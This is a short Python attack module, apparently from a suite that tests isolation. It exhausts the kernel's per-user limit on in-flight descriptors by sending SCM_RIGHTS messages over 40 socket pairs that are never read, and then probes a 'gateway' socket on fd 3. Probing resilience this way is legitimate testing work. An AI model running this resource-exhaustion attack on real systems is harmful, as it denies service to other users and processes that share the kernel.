"""Sends descriptors over socket pairs, which nobody receives: the kernel counts them per user, and refuses everybody's."""

import array
import os
import socket

from _attack import attack, attempt


def send(one):
    rights = array.array("i", [0] * 200)
    return one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])


held = []


@attack
def handle(host):
    found = {}
    for count in range(40):
        pair = socket.socketpair()
        held.append(pair)
        found[f"send {count}"] = attempt(send, pair[0])
    found["to the gateway"] = attempt(send, socket.socket(fileno=os.dup(3)))
    return found
